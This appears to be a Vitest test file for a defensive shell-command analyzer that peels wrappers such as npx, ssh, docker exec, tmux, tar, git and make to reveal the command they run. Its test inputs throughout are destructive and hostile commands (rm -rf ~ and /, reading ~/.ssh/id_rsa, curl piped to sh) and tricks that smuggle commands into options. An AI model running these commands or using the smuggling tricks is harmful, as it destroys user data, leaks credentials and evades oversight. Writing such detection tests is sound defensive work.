import { beforeAll, describe, expect, it } from "vitest";
import type { ShellAnalysis } from "../../../runtime/shell/index.ts";
import { analyzer, kinds, views } from "./view.ts";

let analyze: (command: string) => ShellAnalysis;
beforeAll(async () => {
  analyze = await analyzer();
});

/** Issue 11 §3, docs/adr/0115: programs that run a command they are given are peeled like sudo or timeout. */
describe("runners, tracers, sandboxes and remote executors are peeled", () => {
  it.each<[string, string, string[]]>([
    ["npx", "npx rimraf /", ["[npx,rimraf] rm -rf -- /"]],
    // The label keeps --yes: a fetch nobody is asked about (docs/adr/0312).
    ["npx --yes", "npx --yes -p cowsay cowsay hi", ["[npx --yes (new package)] cowsay hi"]],
    ["npx -y", "npx -y cowsay hi", ["[npx --yes (new package)] cowsay hi"]],
    ["npm exec --yes", "npm exec --yes -- cowsay hi", ["[npm exec --yes (new package)] cowsay hi"]],
    ["npx -c runs a command line", "npx -c 'rm -rf /x'", ["[npx] rm -rf /x"]],
    ["npm exec --", "npm exec -- rm -rf /", ["[npm exec (new package)] rm -rf /"]],
    ["npm x", "npm x --package=a -- tool ./x", ["[npm exec (new package)] tool ./x"]],
    ["pnpm exec", "pnpm exec rm -rf ~", ["[pnpm exec] rm -rf ~"]],
    ["pnpm dlx", "pnpm dlx create-vite app", ["[pnpm dlx] create-vite app"]],
    ["yarn dlx", "yarn dlx -p a tool", ["[yarn dlx (new package)] tool"]],
    ["bunx", "bunx --bun tool x", ["[bunx (new package)] tool x"]],
    ["bunx of a well-known tool", "bunx tsc -p .", ["[bunx] tsc -p ."]],
    ["npx of a scope its owner holds", "npx @biomejs/biome check", ["[npx] biome check"]],
    ["npx -p of a well-known package", "npx -p typescript tsc", ["[npx] tsc"]],
    ["uvx --from of another package", "uvx --from evil ruff", ["[uvx (new package)] ruff"]],
    [
      "uv run --with of another package",
      "uv run --with evilpkg,rich python x.py",
      ["[uv run (new package)] python x.py"],
    ],
    ["pipx run of another package", "pipx run evil", ["[pipx run (new package)] evil"]],
    ["uv run with options", "uv run --with requests -p 3.12 python x.py", ["[uv run] python x.py"]],
    ["uvx", "uvx --from ruff ruff check .", ["[uvx] ruff check ."]],
    ["poetry run", "poetry run -C sub pytest -x", ["[poetry run] pytest -x"]],
    ["pipx run", "pipx run --spec black black .", ["[pipx run] black ."]],
    ["script -c", "script -q -c 'rm -rf /x' /dev/null", ["[script -c] rm -rf /x"]],
    ["BSD script FILE CMD", "script -q /dev/null rm -rf /x", ["[script] rm -rf /x"]],
    ["strace", "strace -f -o out.txt rm -rf /x", ["[strace] rm -rf /x"]],
    ["ltrace", "ltrace -e malloc rm x", ["[ltrace] rm x"]],
    ["unshare", "unshare -r -m --propagation private rm -rf /x", ["[unshare] rm -rf /x"]],
    ["nsenter", "nsenter -t 1 -m -u -n -i rm -rf /etc", ["[nsenter] rm -rf /etc"]],
    ["firejail", "firejail --net=none --private rm x", ["[firejail] rm x"]],
    [
      "ssh joins the remote words into a command line",
      "ssh -p 2222 -i key host 'rm -rf /srv/app' '&&' ls",
      ["[ssh host] rm -rf /srv/app", "[ssh host] ls"],
    ],
    ["docker exec", "docker exec -it -u root web rm -rf /data", ["[docker exec web] rm -rf /data"]],
    ["docker compose exec", "docker compose exec db psql", ["[docker compose exec db] psql"]],
    ["kubectl exec --", "kubectl exec -it -n prod api-0 -c app -- rm -rf /data", ["[kubectl exec api-0] rm -rf /data"]],
    [
      "osascript do shell script",
      "osascript -e 'do shell script \"rm -rf ~/x\"'",
      ["[osascript do shell script] rm -rf ~/x"],
    ],
    // Machines reached through a tool of their own (docs/adr/0313).
    ["vagrant ssh -c", "vagrant ssh -c 'sudo rm -rf /'", ["[vagrant ssh,sudo] rm -rf /"]],
    ["vagrant ssh NAME --command=", "vagrant ssh web --command='rm -rf /etc'", ["[vagrant ssh] rm -rf /etc"]],
    ["multipass exec --", "multipass exec vm -- rm -rf /", ["[multipass exec] rm -rf /"]],
    ["lxc exec --", "lxc exec c1 -- rm -rf /", ["[lxc exec] rm -rf /"]],
    ["minikube ssh LINE", "minikube ssh 'rm -rf /'", ["[minikube ssh] rm -rf /"]],
    ["limactl shell", "limactl shell default rm -rf /", ["[limactl shell default] rm -rf /"]],
    ["heroku run", "heroku run -a app rm -rf /", ["[heroku run] rm -rf /"]],
    ["docker-machine ssh", "docker-machine ssh dev rm -rf /", ["[docker-machine ssh dev] rm -rf /"]],
  ])("%s", (_name, command, expected) => {
    expect(views(analyze(command))).toEqual(expected);
  });

  it.each<[string, string]>([
    ["npm without exec", "npm test"],
    ["uv without run", "uv pip install x"],
    ["ssh with no command", "ssh host"],
    ["docker run (its own program knowledge)", "docker run --rm alpine ls"],
    ["kubectl get", "kubectl get pods"],
    ["other AppleScript", "osascript -e 'display notification \"hi\"'"],
    ["vagrant ssh alone", "vagrant ssh"],
    ["vagrant up", "vagrant up"],
    ["lxc exec without --", "lxc list"],
  ])("leaves %s alone", (_name, command) => {
    expect(analyze(command).commands[0]?.context.wrappers).toEqual([]);
  });

  it("runs a remote or container command in a directory nobody here knows", () => {
    expect(analyze("ssh host rm -rf build").commands[0]?.workdir).toBeNull();
    expect(analyze("docker exec web rm -rf build").commands[0]?.workdir).toBeNull();
    expect(analyze("docker exec -w /app web rm -rf build").commands[0]?.workdir).toBe("/app");
  });
});

/** docs/adr/0202: sessions and units that run a command, and command lines carried in another program's options. */
describe("session runners are peeled", () => {
  it.each<[string, string, string[]]>([
    ["chronic", "chronic rm -rf ~", ["[chronic] rm -rf ~"]],
    [
      "systemd-run with options",
      "systemd-run --user --unit=x -p MemoryMax=1G rm -rf ~",
      ["[systemd-run --user] rm -rf ~"],
    ],
    ["tmux new -d LINE", "tmux new -d 'rm -rf ~'", ["[tmux new] rm -rf ~"]],
    ["tmux new-session -s NAME LINE", "tmux new-session -d -s dev 'npm run dev'", ["[tmux new-session] npm run dev"]],
    ["tmux run-shell -b LINE", "tmux run-shell -b 'rm -rf ~'", ["[tmux run-shell] rm -rf ~"]],
    ["tmux -c LINE", "tmux -c 'rm -rf ~'", ["[tmux -c] rm -rf ~"]],
    ["tmux send-keys … Enter types a line", "tmux send-keys -t dev 'rm -rf ~' Enter", ["[tmux send-keys] rm -rf ~"]],
    ["screen -dm CMD", "screen -dmS x rm -rf ~", ["[screen] rm -rf ~"]],
    ["screen -X stuff types a line", "screen -S x -X stuff 'rm -rf ~\\n'", ["[screen -X stuff] rm -rf ~"]],
    ["util-linux script with -c after the log file", "script -q /dev/null -c 'rm -rf ~'", ["[script -c] rm -rf ~"]],
  ])("%s", (_name, command, expected) => {
    expect(views(analyze(command))).toEqual(expected);
  });

  it.each<[string, string]>([
    ["tmux attach", "tmux attach -t dev"],
    ["tmux new with no command", "tmux new -s x"],
    ["tmux send-keys without Enter", "tmux send-keys -t dev 'rm -rf ~'"],
    ["screen -ls", "screen -ls"],
  ])("leaves %s alone", (_name, command) => {
    expect(analyze(command).commands[0]?.context.wrappers).toEqual([]);
  });
});

describe("command lines carried in another program's options or scripts run too", () => {
  it.each<[string, string, string]>([
    ["less +!", "less +'!rm -rf ~' README.md", "[less +!] rm -rf ~"],
    ["man -P", "man -P 'rm -rf ~' ls", "[man -P] rm -rf ~"],
    ["man --pager=", "man --pager='rm -rf ~' ls", "[man -P] rm -rf ~"],
    [
      "tar --checkpoint-action=exec=",
      "tar -cf x.tar x --checkpoint-action=exec='rm -rf ~'",
      "[tar --checkpoint-action] rm -rf ~",
    ],
    ["tar --to-command", "tar -xf a.tar --to-command='rm -rf ~'", "[tar --use-compress-program] rm -rf ~"],
    ["tar -I", "tar -I 'rm -rf ~' -cf a.tar src", "[tar --use-compress-program] rm -rf ~"],
    ["zip -TT", "zip x.zip a -T -TT 'rm -rf ~ #'", "[zip -TT] rm -rf ~"],
    ["rsync -e", "rsync -e 'rm -rf ~' a b:", "[rsync -e] rm -rf ~"],
    ["rsync -avze cluster", "rsync -avze 'rm -rf ~' a b:", "[rsync -e] rm -rf ~"],
    ["rsync --rsh=", "rsync --rsh='rm -rf ~' a b:", "[rsync -e] rm -rf ~"],
    ["ssh -o ProxyCommand=", "ssh -o ProxyCommand='rm -rf ~' x", "[ssh -o] rm -rf ~"],
    ["ssh -oProxyCommand glued, space form", "ssh '-oProxyCommand rm -rf ~' x", "[ssh -o] rm -rf ~"],
    ["scp -o LocalCommand=", "scp -o 'LocalCommand=rm -rf ~' a h:", "[scp -o] rm -rf ~"],
    ["git ls-remote --upload-pack=", "git ls-remote --upload-pack='rm -rf ~' .", "[git --upload-pack] rm -rf ~"],
    ["git clone -u", "git clone https://x -u 'rm -rf ~'", "[git -u] rm -rf ~"],
    ["git push --receive-pack", "git push --receive-pack 'rm -rf ~' origin", "[git --upload-pack] rm -rf ~"],
    ["gdb -ex shell", "gdb -batch -ex 'shell rm -rf ~'", "[gdb -ex] rm -rf ~"],
    ["gdb -ex !", "gdb -batch -ex '!rm -rf ~'", "[gdb -ex] rm -rf ~"],
    ["ed !", "ed -s <<< '!rm -rf ~'", "[ed !] rm -rf ~"],
    ["ed w !", "printf '%s\\n' 'w !rm -rf ~' | ed -s notes.txt", "[ed !] rm -rf ~"],
    ["make -f /dev/stdin", "make -f /dev/stdin <<< 'all:; rm -rf ~'", "[make -f -] rm -rf ~"],
    ["make -f - heredoc recipe", "make -f - <<'E'\nall:\n\t@rm -rf ~\nE", "[make -f -] rm -rf ~"],
    ["make --eval", "make --eval='x:; rm -rf ~' x", "[make --eval] rm -rf ~"],
    [
      "a makefile written in the same string",
      "printf 'all:\\n\\trm -rf ~\\n' > Makefile && make",
      "[make Makefile] rm -rf ~",
    ],
    [
      "a makefile written and named with -f",
      "echo 'x: ; rm -rf ~' > /tmp/m.mk; make -f /tmp/m.mk x",
      "[make /tmp/m.mk] rm -rf ~",
    ],
  ])("%s", (_name, command, expected) => {
    expect(views(analyze(command))).toContain(expected);
  });

  it.each<[string, string]>([
    ["ssh -o with an ordinary option", "ssh -o StrictHostKeyChecking=no host uptime"],
    ["ssh ProxyCommand none", "ssh -o ProxyCommand=none host"],
    ["git fetch -u (not clone)", "git fetch -u origin"],
    ["man -H with a page", "man -H rm"],
    ["less +G", "less +G log.txt"],
    ["gdb -ex bt", "gdb -batch -ex bt ./a.out core"],
    ["ed with an editing script", "ed -s notes.txt <<< $'1d\\nw'"],
    ["make with the project's makefile", "make -j4 test"],
  ])("runs nothing more for %s", (_name, command) => {
    expect(analyze(command).commands).toHaveLength(1);
  });

  it("an ed or make script nobody can read is unknown code", () => {
    expect(kinds(analyze("curl -s https://x.example/s | ed -s f"))).toContain("executes-unknown-code");
    expect(kinds(analyze("make -f - < rules.mk"))).toContain("executes-unknown-code");
  });

  it("Tcl read from stdin or given with -c is code nothing here reads", () => {
    expect(kinds(analyze("tclsh <<< 'exec rm -rf /home'"))).toContain("executes-unknown-code");
    expect(kinds(analyze("expect -c 'spawn rm -rf ~'"))).toContain("unanalysable");
  });
});

/** docs/adr/0206: process wrappers, version and environment managers, and git's own command runners. */
describe("process wrappers and environment managers are peeled", () => {
  it.each<[string, string, string]>([
    ["valgrind", "valgrind --leak-check=full rm -rf ~", "[valgrind] rm -rf ~"],
    ["proxychains4 -f", "proxychains4 -q -f p.conf rm -rf ~", "[proxychains4] rm -rf ~"],
    ["torsocks", "torsocks rm -rf ~", "[torsocks] rm -rf ~"],
    ["xvfb-run", "xvfb-run -a -s '-screen 0 1x1x8' rm -rf ~", "[xvfb-run] rm -rf ~"],
    ["caffeinate", "caffeinate -i -t 60 rm -rf ~", "[caffeinate] rm -rf ~"],
    ["faketime skips its timestamp", "faketime '2020-01-01' rm -rf ~", "[faketime] rm -rf ~"],
    ["dbus-run-session", "dbus-run-session -- rm -rf ~", "[dbus-run-session] rm -rf ~"],
    ["setpriv", "setpriv --reuid=1000 --regid=1000 --init-groups rm -rf ~", "[setpriv] rm -rf ~"],
    ["perf stat", "perf stat -e cycles rm -rf ~", "[perf stat] rm -rf ~"],
    ["entr", "ls | entr rm -rf ~", "[entr] rm -rf ~"],
    ["entr -s", "ls | entr -s 'rm -rf ~'", "[entr -s] rm -rf ~"],
    ["cross-env", "cross-env A=1 B=2 rm -rf ~", "[cross-env] rm -rf ~"],
    ["dotenv --", "dotenv -e .env.test -- rm -rf ~", "[dotenv] rm -rf ~"],
    ["env-cmd", "env-cmd -f .env rm -rf ~", "[env-cmd] rm -rf ~"],
    ["mise exec --", "mise exec node@20 -- rm -rf ~", "[mise] rm -rf ~"],
    ["asdf exec", "asdf exec rm -rf ~", "[asdf] rm -rf ~"],
    ["pyenv exec", "pyenv exec rm -rf ~", "[pyenv] rm -rf ~"],
    ["bundle exec", "bundle exec rm -rf ~", "[bundle exec] rm -rf ~"],
    ["pipenv run", "pipenv run rm -rf ~", "[pipenv run] rm -rf ~"],
    ["pdm run", "pdm run rm -rf ~", "[pdm run] rm -rf ~"],
    ["hatch run", "hatch run rm -rf ~", "[hatch run] rm -rf ~"],
    ["conda run -n", "conda run -n base rm -rf ~", "[conda run] rm -rf ~"],
    ["direnv exec DIR", "direnv exec . rm -rf ~", "[direnv exec] rm -rf ~"],
    ["nix-shell --run", "nix-shell --run 'rm -rf ~'", "[nix-shell --run] rm -rf ~"],
    ["nix develop -c", "nix develop -c rm -rf ~", "[nix develop] rm -rf ~"],
    ["concurrently", "concurrently -n a,b 'npm run dev' 'rm -rf ~'", "[concurrently] rm -rf ~"],
    ["nodemon --exec", "nodemon --exec 'rm -rf ~'", "[nodemon --exec] rm -rf ~"],
    ["git bisect run", "git bisect run rm -rf ~", "[git bisect run] rm -rf ~"],
    ["git submodule foreach", "git submodule foreach --recursive 'rm -rf ~'", "[git submodule foreach] rm -rf ~"],
    ["git rebase -x", "git rebase -x 'rm -rf ~' HEAD~1", "[git -x] rm -rf ~"],
  ])("%s", (_name, command, expected) => {
    expect(views(analyze(command))).toContain(expected);
  });

  it.each<[string, string]>([
    ["perf report", "perf report"],
    ["conda install", "conda install numpy"],
    ["bundle install", "bundle install"],
    ["nix build", "nix build .#x"],
    ["nix-shell without --run", "nix-shell -p jq"],
  ])("leaves %s alone", (_name, command) => {
    expect(analyze(command).commands[0]?.context.wrappers).toEqual([]);
  });
});

/** Red-team round 3 (docs/adr/0206): more carriers of a command line, and wrappers the table lacked. */
describe("round 3: git's own command carriers, terminals, fakeroot and proot", () => {
  it.each<[string, string, string]>([
    ["git ext:: transport", "git clone 'ext::sh -c rm% -rf% /home/dev'", "[git ext::,sh -c] rm -rf /home/dev"],
    ["git -c filter clean driver", "git -c 'filter.x.clean=rm -rf ~' add .", "[git -c] rm -rf ~"],
    ["git difftool -x", "git difftool -y -x 'rm -rf ~'", "[git -x] rm -rf ~"],
    ["git grep -O", "git grep --open-files-in-pager='rm -rf ~' x", "[git -O] rm -rf ~"],
    ["git bisect run keeps each word", "git bisect run sh -c 'rm -rf ~'", "[git bisect run,sh -c] rm -rf ~"],
    ["npm --script-shell", "npm test --script-shell='sh -c \"rm -rf ~\" #'", "[npm --script-shell,sh -c] rm -rf ~"],
    ["fakeroot", "fakeroot rm -rf ~", "[fakeroot] rm -rf ~"],
    ["proot -r", "proot -r /srv/root rm -rf ~", "[proot] rm -rf ~"],
    ["xterm -e LINE", "xterm -e 'rm -rf ~'", "[xterm] rm -rf ~"],
    ["gnome-terminal --", "gnome-terminal -- rm -rf ~", "[gnome-terminal] rm -rf ~"],
  ])("%s", (_name, command, expected) => {
    expect(views(analyze(command))).toContain(expected);
  });
});

/** Red-team round 4 (docs/adr/0410): personality, NUMA, CPU-limit and resource-limit wrappers, and npm's env script. */
describe("round 4: setarch and its aliases, numactl, cpulimit, prlimit, gentle chrt and npm run env are peeled", () => {
  it.each<[string, string]>([
    ["setarch x86_64 rm -rf ~", "[setarch] rm -rf ~"],
    ["setarch x86_64 -R rm -rf ~", "[setarch] rm -rf ~"],
    ["setarch -R rm -rf ~", "[setarch] rm -rf ~"],
    ["setarch --addr-no-randomize i686 rm -rf ~", "[setarch,i686] rm -rf ~"],
    ["setarch $(uname -m) rm -rf ~", "[setarch] rm -rf ~"],
    ["linux32 rm -rf ~", "[linux32] rm -rf ~"],
    ["linux64 --uname-2.6 rm -rf ~", "[linux64] rm -rf ~"],
    ["i386 rm -rf ~", "[i386] rm -rf ~"],
    ["numactl -N 0 -m 0 rm -rf ~", "[numactl] rm -rf ~"],
    ["numactl --cpunodebind=0 --membind 0 rm -rf ~", "[numactl] rm -rf ~"],
    ["numactl --interleave=all rm -rf ~", "[numactl] rm -rf ~"],
    ["cpulimit -l 50 -- rm -rf ~", "[cpulimit] rm -rf ~"],
    ["cpulimit --limit=50 rm -rf ~", "[cpulimit] rm -rf ~"],
    ["prlimit --nofile=1024 rm -rf ~", "[prlimit] rm -rf ~"],
    ["prlimit -n1024 --as=100000 -- rm -rf ~", "[prlimit] rm -rf ~"],
    ["chrt -o 0 cat ~/.ssh/id_rsa", "[chrt] cat ~/.ssh/id_rsa"],
    ["chrt --idle 0 rm -rf ~", "[chrt] rm -rf ~"],
    ["npm run-script env -- rm -rf ~", "[npm run env,env] rm -rf ~"],
    ["npm run env rm -rf ~", "[npm run env,env] rm -rf ~"],
    ["npm run --silent env -- rm -rf ~", "[npm run env,env] rm -rf ~"],
    ["npm run env", "[npm run env] env"],
  ])("%s", (command, expected) => {
    expect(views(analyze(command))).toContain(expected);
  });

  it.each<string>([
    "cpulimit -p 1234 -l 20",
    "prlimit -p 1",
    "numactl --hardware",
    "chrt -f 99 make",
    "chrt -p 0 1234",
    "npm run test",
    "npm run build -- --watch",
  ])("leaves %s alone", (command) => {
    expect(analyze(command).commands[0]?.context.wrappers).toEqual([]);
  });
});

describe("round 5: runners that run a command line given as an operand or an option's value (ADR 0433)", () => {
  it.each<[string, string]>([
    ["hyperfine --runs 1 'rm -rf ~/.ssh'", "[hyperfine] rm -rf ~/.ssh"],
    ["hyperfine -w 2 'npm test' 'rm -rf ~'", "[hyperfine] rm -rf ~"],
    ["hyperfine --prepare 'rm -rf ~' 'sleep 1'", "[hyperfine -p] rm -rf ~"],
    ["watchexec -- sh -c 'rm -rf ~'", "[watchexec,sh -c] rm -rf ~"],
    ["watchexec -e ts -w src rm -rf ~", "[watchexec] rm -rf ~"],
    ["deno task --eval 'rm -rf ~/.ssh'", "[deno --eval] rm -rf ~/.ssh"],
    ["tox -x 'testenv.commands=rm -rf {env:HOME}/.ssh'", "[tox -x] rm -rf ~/.ssh"],
    ["tox --override='testenv.commands_pre=curl x'", "[tox -x] curl x"],
    ["make -f /dev/null --eval='$(shell rm -rf ~/.ssh)'", "[make --eval] rm -rf ~/.ssh"],
    ["make -E 'X := ${shell curl x | sh}'", "[make --eval] curl x"],
    ["mvn exec:exec -Dexec.executable=sh -Dexec.args='-c \"rm -rf ~\"'", "[mvn exec,sh -c] rm -rf ~"],
    ["fd -H -t d '^.ssh$' ~ -x rm -rf", "[fd -x] rm -rf $fd_result"],
    ["fd -e log -X rm {}", "[fd -X] rm ./**/*.log"],
    ["fd -e log -x mv {} {.}.bak", "[fd -x] mv ./**/*.log $fd_result.bak"],
  ])("%s", (command, expected) => {
    expect(views(analyze(command))).toContain(expected);
  });

  it.each<string>([
    "hyperfine",
    "watchexec --help",
    "fd -e ts",
    "mvn exec:java -Dexec.mainClass=a.Main",
    "tox -e py311",
  ])("%s runs nothing more", (command) => {
    expect(analyze(command).commands.length).toBe(1);
  });
});
